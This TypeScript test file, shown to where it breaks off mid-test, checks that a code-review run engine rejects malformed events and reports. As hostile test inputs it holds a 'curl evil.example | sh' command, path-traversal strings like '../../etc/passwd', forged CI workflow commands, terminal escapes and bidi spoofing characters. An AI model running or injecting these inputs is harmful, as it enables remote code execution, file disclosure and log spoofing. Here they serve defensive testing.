import { describe, expect, it } from 'vitest';
import type { DomainEvent } from '../../src/index.js';
import {
  contributionRecorded,
  findingOf,
  PRESETS,
  REJECTION_CODES,
  REPORT_LIMITS,
  roundRecorded,
} from '../../src/index.js';
import { TWIN_PREFIX, TWINS } from '../../src/testing/mutations/ids.js';
import { TEST_SIGNER } from '../../src/testing/policies.js';
import { hasControl } from '../../src/text/untrusted.js';
import {
  allStages,
  CHECKED_POLICY,
  candidate,
  captured,
  checked,
  decision,
  disputed,
  extended,
  failed,
  finished,
  idOf,
  nit,
  opened,
  openedWith,
  RUN,
  report,
  reproduced,
  ruled,
  sha,
  started,
} from '../support/builders.js';
import { citedSpecification } from '../support/given.js';

// this file's own specification: "covers every rejection code" counts only what this file asserted
const { given, rejectionsSeen } = citedSpecification();

const major = candidate();
const other = candidate({ file: 'src/other.js', summary: 'Off by one' });
const afterRound1 = [
  opened(),
  captured(1, 'A'),
  roundRecorded(report(1, 'A', { candidates: [major, other] })),
] as const;
const round2Touching = (...files: string[]) => given(...afterRound1, captured(2, 'B', { touched: files }));

describe('every rule refuses with its own code, and leaves the state and the offer untouched', () => {
  describe('the run', () => {
    it('not-opened: nothing before run.opened', () => {
      given().whenEvent(captured(1, 'A')).rejects('not-opened');
      given()
        .whenReport(report(1, 'A'), { capture: captured(1, 'A').data })
        .rejects('not-opened');
    });
    it('already-opened: a run opens once', () => {
      given(opened()).whenEvent(opened()).rejects('already-opened');
    });
    it('unknown-event: an event type evolve does not know', () => {
      given(opened())
        .whenEvent({ type: 'round.deleted', data: {} } as unknown as DomainEvent)
        .rejects('unknown-event');
    });
    it('invalid-policy: maxRounds 0, no severities, a negative allowance', () => {
      const bad = (policy: object) => ({
        ...opened(),
        data: { ...opened().data, policy: { ...PRESETS.default, ...policy } },
      });
      given()
        .whenEvent(bad({ maxRounds: 0 }))
        .rejects('invalid-policy', /maxRounds/);
      given()
        .whenEvent(bad({ severities: {} }))
        .rejects('invalid-policy', /severities/);
      given()
        .whenEvent(bad({ stages: ['planning', 'planning'] }))
        .rejects('invalid-policy', /stages must be distinct/);
      given()
        .whenEvent(bad({ budget: { usd: -1 } }))
        .rejects('invalid-policy', /budget\.usd/);
      given()
        .whenEvent(bad({ severities: { nit: { blocks: false, firstRoundOnly: false, maxAdmitted: -1 } } }))
        .rejects('invalid-policy', /maxAdmitted/);
      given()
        .whenEvent(bad({ stallRounds: 1 }))
        .rejects('invalid-policy', /stallRounds must be an integer >= 2/);
      given()
        .whenEvent(bad({ stallRounds: 2.5 }))
        .rejects('invalid-policy', /stallRounds/);
    });
    it('empty-field: a run with no id, a capture with no input', () => {
      given().whenEvent(opened(PRESETS.default, ' ')).rejects('empty-field', /runId/);
      given(opened())
        .whenEvent({ ...captured(1, 'A'), data: { ...captured(1, 'A').data, inputSha: '' } })
        .rejects('empty-field');
    });
    it('unchanged-input: a round on the bytes the last round reviewed, the same inputSha or the same tree', () => {
      const reviewedA = [
        opened(PRESETS.default),
        captured(1, 'A'),
        roundRecorded(report(1, 'A', { candidates: [major] })),
      ];
      const unchanged = given(...reviewedA)
        .whenEvent(captured(2, 'A'))
        .rejects(
          'unchanged-input',
          /round 2 .* is the one round 1 reviewed: .*the same bytes again as a recorded choice, saying why/,
        );
      expect(unchanged.next).toEqual({
        action: 'capture',
        runId: 'run-1',
        args: { sameInput: true, reason: true },
      });
      // a message-only amend: a new commit, the same tree
      const tree = 'a'.repeat(40);
      const atTree = (round: number, commit: string) => ({
        type: 'revision.captured' as const,
        data: { round, inputSha: sha(commit), commit: sha(commit), tree, touchedFiles: [], renames: [] },
      });
      const reviewedTree = [
        opened(PRESETS.default),
        atTree(1, 'c1'),
        roundRecorded(report(1, 'c1', { candidates: [major] })),
      ];
      given(...reviewedTree)
        .whenEvent(atTree(2, 'c2'))
        .rejects('unchanged-input');
      // saying so is a different refusal under a policy that allows none: the limit
      given(...reviewedA)
        .whenEvent({
          ...captured(2, 'A'),
          data: { ...captured(2, 'A').data, sameInput: { reason: 'again' } },
        })
        .rejects('same-input-limit', /allows 0 round\(s\) on unchanged input \(sameInputRounds\)/);
    });
    it('same-input-limit: at most sameInputRounds rounds on unchanged input, each with a reason', () => {
      const again = (round: number, reason = 'the reviewer missed half the files') => ({
        ...captured(round, 'A'),
        data: { ...captured(round, 'A').data, sameInput: { reason } },
      });
      const once = [
        opened({ ...PRESETS.default, sameInputRounds: 1 }),
        captured(1, 'A'),
        roundRecorded(report(1, 'A', { candidates: [major] })),
      ];
      given(...once)
        .whenEvent(again(2, '  '))
        .rejects('empty-field', /sameInput\.reason/);
      given(...once, again(2), roundRecorded(report(2, 'A')))
        .whenEvent(again(3))
        .rejects('same-input-limit', /allows 1 round\(s\).*has had 1/);
      // sameInput on new bytes says what is not so
      given(...once)
        .whenEvent({ ...captured(2, 'B'), data: { ...captured(2, 'B').data, sameInput: { reason: 'x' } } })
        .rejects('inconsistent-event', /not what round 1 reviewed/);
    });
    it('run-final: a converged run takes no capture and no round', () => {
      const done = [opened(), captured(1, 'A'), roundRecorded(report(1, 'A'))];
      given(...done)
        .whenEvent(captured(2, 'B'))
        .rejects('run-final', /converged/);
    });
  });

  describe('binding a report to its run, round and input', () => {
    it('wrong-round: skipped, repeated, and a capture for the wrong round', () => {
      given(opened(), captured(1, 'A'))
        .whenReport(report(2, 'A'))
        .rejects('wrong-round', /next round of run run-1 is 1/);
      const spec = given(...afterRound1, captured(2, 'B', { touched: ['x'] }));
      spec.whenReport(report(1, 'B')).rejects('wrong-round');
      spec.whenReport(report(3, 'B')).rejects('wrong-round');
      given(opened()).whenEvent(captured(2, 'A')).rejects('wrong-round');
    });
    it('no-revision: a round needs its captured input', () => {
      given(...afterRound1)
        .whenReport(report(2, 'B'))
        .rejects('no-revision', /capture/);
    });
    it('wrong-run: a report of another run', () => {
      given(opened(), captured(1, 'A'))
        .whenReport({ ...report(1, 'A'), runId: 'run-2' })
        .rejects('wrong-run', /run-2/);
    });
    it('wrong-input: a report of other bytes', () => {
      given(opened(), captured(1, 'A'))
        .whenReport(report(1, 'Z'))
        .rejects('wrong-input', new RegExp(sha('A')));
    });
    it('not-completed: completed false', () => {
      given(opened(), captured(1, 'A'))
        .whenReport(report(1, 'A', { completed: false }))
        .rejects('not-completed');
    });
    it('inconsistent-event: a round.recorded whose reportSha is not its report', () => {
      const event = roundRecorded(report(1, 'A', { candidates: [major] }));
      given(opened(), captured(1, 'A'))
        .whenEvent({ ...event, data: { ...event.data, reportSha: sha('forged') } })
        .rejects('inconsistent-event');
    });
    it('invalid-report: anything that is not a round report', () => {
      given(opened(), captured(1, 'A'))
        .whenReport({ runId: RUN, round: 1 })
        .rejects('invalid-report', /inputSha/);
    });
    it('invalid-text: a lone surrogate anywhere in the report, which has no UTF-8 form', () => {
      const spec = given(opened(), captured(1, 'A'));
      spec
        .whenReport(report(1, 'A', { candidates: [{ ...major, summary: 'half \uD83D a pair' }] }))
        .rejects('invalid-text', /candidates\[0\]\.summary: contains a lone surrogate/);
      spec
        .whenReport(report(1, 'A', { notExamined: ['\uDE00'] }))
        .rejects('invalid-text', /notExamined\[0\]/);
      // a well-formed pair is text like any other
      expect(
        spec
          .whenReport(report(1, 'A', { candidates: [{ ...major, summary: 'emoji \uD83D\uDE00 here' }] }))
          .accepts().status,
      ).toBe('open');
    });
    it('invalid-text: a line break, tab, ESC or bidi control in a one-line field, named by its path', () => {
      const spec = given(opened(), captured(1, 'A'));
      const forged = 'x\n::error file=.github/workflows/release.yml,line=1::forged\n::add-mask::y';
      const refused = spec
        .whenReport(report(1, 'A', { candidates: [{ ...major, summary: forged }] }))
        .rejects(
          'invalid-text',
          /candidates\[0\]\.summary: "x\\n::error .* holds the control character \\n: this field is one line/,
        );
      expect(refused.path).toEqual(['candidates', 0, 'summary']);
      // the message quotes the value escaped: it holds no raw control a terminal or a runner acts on
      expect(hasControl(refused.message)).toBe(false);
      spec
        .whenReport(report(1, 'A', { candidates: [{ ...major, category: 'correct\tness' }] }))
        .rejects('invalid-text', /candidates\[0\]\.category: .*\\t/);
      spec
        .whenReport(report(1, 'A', { candidates: [{ ...major, severity: '\u001b]0;PWNED\u0007major' }] }))
        .rejects('invalid-text', /candidates\[0\]\.severity: .*\\u001b/);
      spec
        .whenReport(report(1, 'A', { candidates: [{ ...major, section: 'Install \u202eevil' }] }))
        .rejects('invalid-text', /candidates\[0\]\.section: .*the bidi control \\u202e/);
      spec
        .whenReport(
          report(1, 'A', {
            verifications: [
              {
                file: major.file,
                category: major.category,
                summary: 'a\u0085b',
                verdict: 'refuted',
                evidence: 'e',
              },
            ],
          }),
        )
        .rejects('invalid-text', /verifications\[0\]\.summary/);
      // evidence, principle and reproductions may span lines: they are escaped wherever shown
      const multiLine = {
        ...major,
        evidence: 'line one\nline two\ttabbed',
        principle: 'a\nb',
        reproduction: { command: 'npm test\nnpm run lint', expected: 'fails\nwith ESC \u001b' },
      };
      expect(
        spec.whenReport(report(1, 'A', { candidates: [multiLine], notExamined: ['a\nb'] })).accepts().status,
      ).toBe('open');
    });
    it('invalid-path: a candidate or verification file that is no relative path inside the repository', () => {
      const spec = given(opened(), captured(1, 'A'));
      const hostile: ReadonlyArray<readonly [string, RegExp]> = [
        ['../../etc/passwd', /has a "\.\." name/],
        ['/etc/passwd', /is absolute/],
        ['file:///etc/passwd', /begins with "file:", a drive letter or URL scheme/],
        ['https://example.com/x.js', /begins with "https:"/],
        ['C:\\x', /holds a backslash/],
        ['C:x', /begins with "C:"/],
        ['a.js\u0000../../x', /"a\.js\\u0000\.\.\/\.\.\/x" holds the control character \\u0000/],
        ['src/a\nb.ts', /holds the control character \\n/],
        ['src/\u001b[2Ja.ts', /holds the control character \\u001b/],
        ['src/\u202egnp.exe', /holds the bidi control \\u202e/],
        ['src/\u2066a.ts', /holds the bidi control \\u2066/],
        ['src/a\u007f.ts', /\\u007f/],
        ['src/a\u009b.ts', /\\u009b/],
        ['src//a.ts', /has an empty name/],
        ['src/a.ts/', /has an empty name/],
        ['./src/a.ts', /has a "\." name/],
        ['src/./a.ts', /has a "\." name/],
        ['src/..', /has a "\.\." name/],
      ];
      for (const [file, why] of hostile) {
        const refused = spec
          .whenReport(report(1, 'A', { candidates: [{ ...major, file }] }))
          .rejects('invalid-path', why);
        expect(refused.path).toEqual(['candidates', 0, 'file']);
        expect(refused.message).toMatch(/^invalid round report: candidates\[0\]\.file: /);
        expect(hasControl(refused.message)).toBe(false);
      }
      spec
        .whenReport(
          report(1, 'A', {
            verifications: [{ file: '../x', category: 'c', summary: 's', verdict: 'refuted', evidence: 'e' }],
          }),
        )
        .rejects('invalid-path', /verifications\[0\]\.file: "\.\.\/x"/);
      // an empty file keeps the code the candidate rule has always given it
      spec
        .whenReport(report(1, 'A', { candidates: [{ ...major, file: '' }] }))
        .rejects('empty-field', /file/);
    });
    it('unusual names that are paths inside the repository are accepted', () => {
      const spec = given(opened(), captured(1, 'A'));
      const names = [
        'with space/a b.js',
        'ünïcødé/日本語.md',
        'a..b.js',
        '.github/workflows/ci.yml',
        '...',
        '..a/b',
        'src/.hidden',
        'src/co:lon.ts',
        '1a:b.ts',
        'quote"d.ts',
        'src/emoji \uD83D\uDE00.ts',
      ];
      for (const file of names)
        expect(spec.whenReport(report(1, 'A', { candidates: [{ ...major, file }] })).accepts().status).toBe(
          'open',
        );
    });
    it('invalid-actor: a reviewer that is no one line of printable text, at most 256 characters', () => {
      const spec = given(opened(), captured(1, 'A'));
      const hostile: ReadonlyArray<readonly [string, RegExp]> = [
        ['', /is empty/],
        ['  \u00a0 ', /is only whitespace/],
        ['ada\nconverged by ruling of bob', /holds the control character \\n/],
        ['ada\u001b]0;PWNED\u0007', /holds the control character \\u001b/],
        ['ada\u202e', /holds the bidi control \\u202e/],
        ['ada\u2028bob', /holds the line separator \\u2028/],
        ['a'.repeat(257), /is 257 characters long, over the 256/],
      ];
      for (const [reviewer, why] of hostile) {
        const refused = spec.whenReport(report(1, 'A', { reviewer })).rejects('invalid-actor', why);
        expect(refused.path).toEqual(['reviewer']);
        expect(hasControl(refused.message)).toBe(false);
      }
      for (const reviewer of ['ada', 'CI bot (nightly)', 'Zoë Ø', 'a'.repeat(256)])
        expect(spec.whenReport(report(1, 'A', { reviewer })).accepts().status).toBe('converged');
    });
    it('a log that already holds such values replays: the door checks new input, evolve only the rules', () => {
      // as a log written before the checks would hold them: offered straight to evolve, accepted
      const old = roundRecorded(
        report(1, 'A', {
          candidates: [{ ...major, file: '../../etc/passwd', summary: 'x\n::error::forged' }],
          reviewer: 'ada\nconverged by ruling of bob',
        }),
      );
      given(opened(), captured(1, 'A')).whenEvent(old).accepts();
      given(opened())
        .whenEvent(captured(1, 'A', { touched: ['a\u001b[2J'], renames: [{ from: '/etc/x', to: '../y' }] }))
        .accepts();
    });
    it('a stored round.recorded with a lone surrogate has no reportSha: refused as inconsistent-event, never thrown', () => {
      const event = roundRecorded(report(1, 'A', { candidates: [major] }));
      const forged = {
        ...event,
        data: { ...event.data, report: { ...event.data.report, reviewer: '\uD800' } },
      };
      given(opened(), captured(1, 'A')).whenEvent(forged).rejects('inconsistent-event');
    });
    it('over-limit: every string and list has a published bound', () => {
      const spec = given(opened(), captured(1, 'A'));
      spec
        .whenReport(
          report(1, 'A', { candidates: [{ ...major, summary: 'x'.repeat(REPORT_LIMITS.summary + 1) }] }),
        )
        .rejects('over-limit', /candidates\[0\]\.summary/);
      spec
        .whenReport(
          report(1, 'A', { candidates: [{ ...major, summary: 'x'.repeat(REPORT_LIMITS.summary) }] }),
        )
        .accepts();
      spec
        .whenReport(
          report(1, 'A', { decisions: Array(REPORT_LIMITS.decisions + 1).fill(decision(major, 'fixed')) }),
        )
        .rejects('over-limit', /decisions/);
    });
    it('invalid-report: numbers past 2^53, which JSON readers round silently', () => {
      const spec = given(opened(), captured(1, 'A'));
      const parsed = JSON.parse(
        JSON.stringify(report(1, 'A', { candidates: [major] })).replace(
          '"line":10',
          '"line":9007199254740993',
        ),
      );
      expect(parsed.candidates[0].line).toBe(2 ** 53);
      spec.whenReport(parsed).rejects('invalid-report', /candidates\[0\]\.line/);
      spec.whenReport({ ...report(1, 'A'), round: 2 ** 60 }).rejects('invalid-report', /round/);
    });
  });

  describe('candidates', () => {
    const round1 = (c: object) =>
      given(opened(), captured(1, 'A')).whenReport(report(1, 'A', { candidates: [major, c as never] }));
    it('unconfirmed', () => round1({ ...other, confirmed: false }).rejects('unconfirmed', /candidates\[1\]/));
    it('empty-field', () => round1({ ...other, summary: '  ' }).rejects('empty-field', /summary/));
    it('empty-evidence', () => round1({ ...other, evidence: '' }).rejects('empty-evidence'));
    it('invalid-line: 0, negative, fractional', () => {
      round1({ ...other, line: 0 }).rejects('invalid-line', /line is 0/);
      round1({ ...other, line: -3 }).rejects('invalid-line');
      round1({ ...other, line: 2.5 }).rejects('invalid-line');
    });
    it('unknown-severity', () =>
      round1({ ...other, severity: 'critical' }).rejects('unknown-severity', /known: major, nit/));
    it('duplicate-candidate', () =>
      round1({ ...major, line: 99 }).rejects('duplicate-candidate', /repeats candidates\[0\]/));
    it('invalid-line: a candidate with neither a line nor a section', () => {
      const { line: _, ...noLine } = other;
      round1(noLine).rejects('invalid-line', /cites no location/);
      round1({ ...noLine, section: ' ' }).rejects('invalid-line');
    });
    it('citation-unresolved: under issueflow every citation must resolve at the captured revision', () => {
      const cited = candidate({ severity: 'high' });
      const r = report(1, 'A', { candidates: [cited] });
      const spec = given(opened(PRESETS.issueflow), captured(1, 'A'));
      spec.whenReport(r).rejects('citation-unresolved', /src\/service\.js:10, which was not resolved/);
      spec
        .whenReport(r, {
          citations: [
            {
              candidate: 0,
              citation: 'src/service.js:10',
              resolved: false,
              reason: 'src/service.js has 4 lines',
            },
          ],
        })
        .rejects('citation-unresolved', /resolves to nothing: src\/service\.js has 4 lines/);
      spec
        .whenReport(r, { citations: [{ candidate: 0, citation: 'src/other.js:1', resolved: true }] })
        .rejects('citation-unresolved');
      expect(spec.whenCited(r).accepts().status).toBe('open');
    });
    it('existing-finding: an existing id offered as a candidate', () => {
      round2Touching('README.md')
        .whenReport(report(2, 'B', { candidates: [{ ...major, line: 3 }] }))
        .rejects('existing-finding', /address it by id/);
    });
  });

  describe('decisions', () => {
    it('unknown-finding', () => {
      round2Touching(major.file, other.file)
        .whenReport(
          report(2, 'B', {
            decisions: [
              decision(major, 'fixed'),
              decision(other, 'fixed'),
              decision('f'.repeat(64), 'fixed'),
            ],
          }),
        )
        .rejects('unknown-finding');
    });
    it('unknown-finding: the message lists the open findings an author could have meant', () => {
      const refused = round2Touching(major.file, other.file)
        .whenReport(report(2, 'B', { decisions: [decision(major, 'fixed'), decision('0123abcd', 'fixed')] }))
        .rejects(
          'unknown-finding',
          new RegExp(`its open findings: .*${idOf(other).slice(0, 12)} src/other.js:10 "Off by one"`),
        );
      expect(refused.message).toMatch(/unique prefix of at least 8/);
      expect(refused.details?.openFindings).toContainEqual({
        id: idOf(major).slice(0, 12),
        citation: 'src/service.js:10',
        summary: major.summary,
      });
      // fewer than 8 characters never name a finding, even when they would be unique
      round2Touching(major.file, other.file)
        .whenReport(
          report(2, 'B', {
            decisions: [decision(other, 'fixed'), decision(idOf(major).slice(0, 7), 'fixed')],
          }),
        )
        .rejects('unknown-finding');
    });
    it('a unique prefix of 8 or more hex characters names a finding; the event stores the full id', () => {
      const offered = report(2, 'B', {
        decisions: [
          decision(idOf(major).slice(0, 12), 'fixed'),
          decision(idOf(other).slice(0, 8).toUpperCase(), 'open'),
        ],
      });
      // it emits exactly one round.recorded, whose decisions carry the full ids
      const state = round2Touching(major.file, other.file)
        .whenReport(offered)
        .emits([
          roundRecorded({
            ...offered,
            decisions: [decision(idOf(major), 'fixed'), decision(idOf(other), 'open')],
          }),
        ]);
      expect(findingOf(state, idOf(major))?.status).toBe('fixed');
      // two prefixes of one finding are one finding decided twice
      round2Touching(major.file, other.file)
        .whenReport(
          report(2, 'B', {
            decisions: [
              decision(idOf(major).slice(0, 8), 'fixed'),
              decision(idOf(major).slice(0, 10), 'fixed'),
              decision(other, 'fixed'),
            ],
          }),
        )
        .rejects('duplicate-decision');
    });
    it('unknown-finding: a stored event with a short id is refused, however unique the prefix', () => {
      const short = roundRecorded(
        report(2, 'B', {
          decisions: [decision(idOf(major).slice(0, 12), 'fixed'), decision(other, 'fixed')],
        }),
      );
      given(...afterRound1, captured(2, 'B', { touched: [major.file, other.file] }))
        .whenEvent(short)
        .rejects('unknown-finding', /a stored event names a finding by its full id/);
    });
    it('ambiguous-id: a prefix two findings share, listing both', () => {
      const twins = TWINS.map((t) => candidate(t));
      expect(idOf(twins[0] as never).slice(0, 8)).toBe(TWIN_PREFIX);
      expect(idOf(twins[1] as never).slice(0, 8)).toBe(TWIN_PREFIX);
      const withTwins = [
        opened(),
        captured(1, 'A'),
        roundRecorded(report(1, 'A', { candidates: twins })),
        captured(2, 'B', { touched: ['src/a.ts'] }),
      ];
      const refused = given(...withTwins)
        .whenReport(report(2, 'B', { decisions: [decision(TWIN_PREFIX, 'fixed')] }))
        .rejects('ambiguous-id', /begins 2 finding ids: .*Twin finding 27670.*Twin finding 83260/);
      expect(refused.details?.matches).toHaveLength(2);
      // one more character tells them apart
      const [a, b] = twins.map((t) => idOf(t as never));
      given(...withTwins)
        .whenReport(
          report(2, 'B', {
            decisions: [
              decision((a as string).slice(0, 9), 'fixed'),
              decision((b as string).slice(0, 9), 'fixed'),
            ],
          }),
        )
        .accepts();
    });
    it('closed-finding: a decision on a fixed finding', () => {
      const closed = [
        ...afterRound1,
        captured(2, 'B', { touched: [major.file] }),
        roundRecorded(report(2, 'B', { decisions: [decision(major, 'fixed')] })),
      ];
      given(...closed, captured(3, 'C', { touched: [major.file] }))
        .whenReport(report(3, 'C', { decisions: [decision(major, 'open')] }))
        .rejects(
          'closed-finding',
          /already fixed: only open findings take decisions \(if the fix did not hold, decide it reopened/,
        );
    });
    it('not-reopenable: only a fixed finding can be reopened, named with its status', () => {
      round2Touching(major.file)
        .whenReport(report(2, 'B', { decisions: [decision(major, 'reopened', 'it came back')] }))
        .rejects(
          'not-reopenable',
          new RegExp(`${idOf(major).slice(0, 12)}.*which is open: only a fixed finding`),
        );
      const withdrawn = [
        ...afterRound1,
        captured(2, 'B', { touched: [major.file, other.file] }),
        roundRecorded(report(2, 'B', { decisions: [decision(major, 'open'), decision(other, 'withdrawn')] })),
      ];
      given(...withdrawn, captured(3, 'C', { touched: [major.file] }))
        .whenReport(
          report(3, 'C', {
            decisions: [decision(major, 'open'), decision(other, 'reopened', 'it came back')],
          }),
        )
        .rejects('not-reopenable', /which is withdrawn: only a fixed finding can be reopened/);
    });
    it('stale-evidence: a reopening that repeats the evidence of the decision it overturns', () => {
      const fixed = [
        ...afterRound1,
        captured(2, 'B', { touched: [major.file] }),
        roundRecorded(report(2, 'B', { decisions: [decision(major, 'fixed', 'closed on every path')] })),
      ];
      given(...fixed, captured(3, 'C'))
        .whenReport(report(3, 'C', { decisions: [decision(major, 'reopened', '\tclosed on every path  ')] }))
        .rejects('stale-evidence', /decisions\[0\] reopens finding .* round 2 decision gave/);
    });
    it('untouched-decision: the default policy refuses any decision on an untouched file', () => {
      round2Touching(major.file)
        .whenReport(report(2, 'B', { decisions: [decision(major, 'fixed'), decision(other, 'withdrawn')] }))
        .rejects('untouched-decision', /src\/other\.js.*not touched/);
    });
    it('duplicate-decision', () => {
      round2Touching(major.file)
        .whenReport(report(2, 'B', { decisions: [decision(major, 'fixed'), decision(major, 'open')] }))
        .rejects('duplicate-decision');
    });
    it('empty-evidence on a decision', () => {
      round2Touching(major.file)
        .whenReport(report(2, 'B', { decisions: [decision(major, 'fixed', ' ')] }))
        .rejects('empty-evidence', /decisions\[0\]/);
    });
    it('missing-decision', () => {
      round2Touching(major.file, other.file)
        .whenReport(report(2, 'B', { decisions: [decision(major, 'fixed')] }))
        .rejects('missing-decision', /src\/other\.js/);
    });
  });

  describe("the author's disputes, and the round that must rule on them", () => {
    const afterRound1Open = [...afterRound1] as const;
    it('disputes-off: a policy that turns disputes off refuses one', () => {
      given(
        opened({ ...PRESETS.default, disputes: { allowed: false, blockAfter: 2 } }),
        captured(1, 'A'),
        roundRecorded(report(1, 'A', { candidates: [major] })),
      )
        .when({ kind: 'dispute', finding: idOf(major), reason: 'the pool closes it' })
        .rejects('disputes-off', /does not allow disputes/);
    });
    it('duplicate-dispute: a finding is disputed once until a round rules on it', () => {
      given(...afterRound1Open, disputed(2, idOf(major)))
        .whenEvent(disputed(2, idOf(major), 'another reason'))
        .rejects('duplicate-dispute', /already disputed for round 2/);
    });
    it('review-begun: a dispute comes before the round in progress starts its review', () => {
      given(...afterRound1Open, captured(2, 'B'), started(2, 'planning'))
        .whenEvent(disputed(2, idOf(major)))
        .rejects('review-begun', /review of round 2 of run-1 has begun/);
      given(...afterRound1Open, captured(2, 'B'), contributionRecorded(report(2, 'B'), 'ada'))
        .whenEvent(disputed(2, idOf(major)))
        .rejects('review-begun', /reviewers have begun/);
    });
    it('undecided-dispute: the round leaves a disputed finding without a decision, even untouched', () => {
      given(...afterRound1Open, disputed(2, idOf(major)), captured(2, 'B'))
        .whenReport(report(2, 'B'))
        .rejects(
          'undecided-dispute',
          `finding ${idOf(major).slice(0, 12)} (src/service.js), which the author disputed`,
        );
    });
  });

  describe('the report as a whole', () => {
    it('missing-not-examined: issueflow asks an empty report what it skipped', () => {
      given(opened(PRESETS.issueflow), captured(1, 'A'))
        .whenReport(report(1, 'A'))
        .rejects('missing-not-examined');
    });
    it('verdict-mismatch: a declared verdict must be the derived one', () => {
      given(opened(), captured(1, 'A'))
        .whenReport(report(1, 'A', { candidates: [major], verdict: 'converged' }))
        .rejects('verdict-mismatch', /make it open/);
      given(opened(), captured(1, 'A'))
        .whenReport(report(1, 'A', { candidates: [nit(1)], verdict: 'open' }))
        .rejects('verdict-mismatch');
    });
  });

  describe('the lifecycle of a round', () => {
    const budgeted = { ...PRESETS.default, budget: { tokens: 1000 } };
    const atRound1 = (policy = budgeted, commands: string[] = ['npm test']) => [
      openedWith(policy, commands),
      captured(1, 'A'),
    ];
    it('unknown-stage', () => {
      given(...atRound1())
        .whenEvent(started(1, 'astrology'))
        .rejects('unknown-stage', /stages: planning, experts, verify, summarize/);
    });
    it('stage-out-of-order: skipping a stage, or starting one while another runs', () => {
      given(...atRound1())
        .whenEvent(started(1, 'experts'))
        .rejects('stage-out-of-order', /before planning finished/);
      given(...atRound1(), started(1, 'planning'))
        .whenEvent(started(1, 'experts'))
        .rejects('stage-out-of-order', /planning is still running/);
    });
    it('stage-repeated: a finished plan is never re-run', () => {
      given(...atRound1(), started(1, 'planning'), finished(1, 'planning'))
        .whenEvent(started(1, 'planning'))
        .rejects('stage-repeated', /never re-run/);
    });
    it('stage-not-started: a stage ends only after it started', () => {
      given(...atRound1())
        .whenEvent(finished(1, 'planning'))
        .rejects('stage-not-started');
      given(...atRound1())
        .whenEvent(failed(1, 'planning'))
        .rejects('stage-not-started');
    });
    it('no-consent: a stage that declares a command nobody agreed to', () => {
      given(...atRound1())
        .whenEvent(started(1, 'planning', { commands: ['npm test', 'curl evil.example | sh'] }))
        .rejects(
          'no-consent',
          /"curl evil.example \| sh", which tester did not consent to \(consented: "npm test"\)/,
        );
    });
    it('over-budget: a stage whose estimate would overrun the budget, or any stage once it is spent', () => {
      given(...atRound1())
        .whenEvent(started(1, 'planning', { estimate: { tokens: 1001 } }))
        .rejects('over-budget', /0 tokens spent \+ 1001 tokens more of a budget of 1000 tokens/);
      given(...atRound1(), started(1, 'planning'), finished(1, 'planning', { tokens: 1000 }))
        .whenEvent(started(1, 'experts'))
        .rejects('over-budget', /the round can only end partial/);
    });
    it('invalid-cost: a negative cost', () => {
      given(...atRound1(), started(1, 'planning'))
        .whenEvent(finished(1, 'planning', { tokens: -3 }))
        .rejects('invalid-cost', /cost\.tokens is -3/);
    });
    it('invalid-cost: a report or a contribution that says it cost a negative amount', () => {
      given(opened(), captured(1, 'A'))
        .whenReport({ ...report(1, 'A'), cost: { usd: -0.5 } })
        .rejects('invalid-cost', /report\.cost\.usd is -0\.5/);
      given(opened(), captured(1, 'A'))
        .whenEvent(contributionRecorded({ ...report(1, 'A'), cost: { tokens: -1 } }, 'ada'))
        .rejects('invalid-cost', /report\.cost\.tokens is -1/);
    });
    it('stages-unfinished: a round that ran stages is complete only when all finished', () => {
      given(...atRound1(), started(1, 'planning'), finished(1, 'planning'))
        .whenReport(report(1, 'A'))
        .rejects('stages-unfinished', /experts, verify, summarize did not finish/);
    });
    it('budget-exhausted: a round recorded complete after the run spent past its budget', () => {
      const overspent = [...atRound1(), ...allStages(1, 300)];
      given(...overspent)
        .whenReport(report(1, 'A'))
        .rejects('budget-exhausted', /1200 tokens spent of a budget of 1000 tokens/);
      expect(
        given(...overspent)
          .whenReport(report(1, 'A'), { result: 'partial' })
          .accepts().status,
      ).toBe('open');
    });
    it('missing-principle: under standard, a design finding names its principle', () => {
      given(opened(PRESETS.standard), captured(1, 'A'))
        .whenReport(
          report(1, 'A', { candidates: [candidate({ category: 'design', severity: 'suggestion' })] }),
        )
        .rejects('missing-principle', /design finding with no principle/);
    });
    it('not-blocked: rulings and extensions are refused before the cap', () => {
      const open = [opened(), captured(1, 'A'), roundRecorded(report(1, 'A', { candidates: [major] }))];
      given(...open)
        .whenEvent(ruled(idOf(major), 'withdrawn'))
        .rejects('not-blocked', /is open, not blocked/);
      given(...open)
        .whenEvent(extended(1))
        .rejects('not-blocked');
    });
    it('unsigned-ruling: under a policy that pins signers, a decision is signed by a signer', () => {
      const blocked = [
        openedWith({ ...PRESETS.default, maxRounds: 1, signers: [TEST_SIGNER] }),
        captured(1, 'A'),
        roundRecorded(report(1, 'A', { candidates: [major] })),
      ];
      given(...blocked)
        .whenEvent(ruled(idOf(major), 'withdrawn', 'accepted risk', TEST_SIGNER.principal))
        .rejects('unsigned-ruling', /must be signed with their key/);
      given(...blocked)
        .whenEvent(extended(1, 'more', 'Mallory'))
        .rejects('unsigned-ruling', /none of the policy's signers/);
    });
    it('invalid-extension: 0, negative or fractional rounds', () => {
      const blocked = [
        openedWith({ ...PRESETS.default, maxRounds: 1 }),
        captured(1, 'A'),
        roundRecorded(report(1, 'A', { candidates: [major] })),
      ];
      given(...blocked)
        .whenEvent(extended(0))
        .rejects('invalid-extension');
      given(...blocked)
        .whenEvent(extended(1.5))
        .rejects('invalid-extension');
      given(...blocked)
        .whenEvent(extended(1, 'more', ' '))
        .rejects('empty-field', /a person must sign it/);
    });
  });

  describe('a round from several reviewers', () => {
    const panel = opened({ ...PRESETS.default, experts: ['ada', 'bob'] });
    const r1 = report(1, 'A', { candidates: [major] });
    it('one reviewer, one contribution per round', () => {
      given(panel, captured(1, 'A'), contributionRecorded(r1, 'ada'))
        .whenEvent(contributionRecorded(report(1, 'A'), 'ada'))
        .rejects('duplicate-contribution', /ada already handed in/);
    });
    it('a round with contributions is their merge, and nothing else', () => {
      given(
        panel,
        captured(1, 'A'),
        contributionRecorded(r1, 'ada'),
        contributionRecorded(report(1, 'A'), 'bob'),
      )
        .whenEvent(roundRecorded(report(1, 'A')))
        .rejects('merge-mismatch', /must be their merge/);
    });
    it('record --merge with nothing handed in has nothing to merge, and says what to do', () => {
      given(panel, captured(1, 'A'))
        .whenMerged()
        .rejects(
          'no-contributions',
          /no reviewer has handed in a report\. Hand in each reviewer's report first/,
        );
      expect(given(panel, captured(1, 'A')).whenMerged().rejects('no-contributions').next).toEqual({
        action: 'contribute',
        runId: 'run-1',
        or: { action: 'record', runId: 'run-1' },
      });
      const absent: DomainEvent = {
        type: 'contribution.absent',
